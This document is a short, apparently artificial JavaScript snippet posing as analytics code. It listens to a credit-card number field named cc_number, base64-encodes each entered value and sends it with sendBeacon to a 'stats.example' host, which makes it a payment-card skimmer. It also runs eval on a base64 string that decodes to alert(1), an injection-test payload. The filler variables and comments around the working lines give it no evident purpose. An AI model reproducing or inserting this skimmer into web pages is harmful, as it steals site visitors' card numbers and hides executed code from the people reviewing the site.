(() => { const key = "a1", url = 'https://stats.example/p?x=' + 7, list = [`//cdn.example/${key}`, /["'\/]+/g]; // a note
/* another */ document.querySelector('[name=cc_number]').addEventListener("change", e => { navigator.sendBeacon("//stats.example/p", btoa(e.target.value)) });
eval(atob("YWxlcnQoMSk=")); return 3.14 / 2 })();
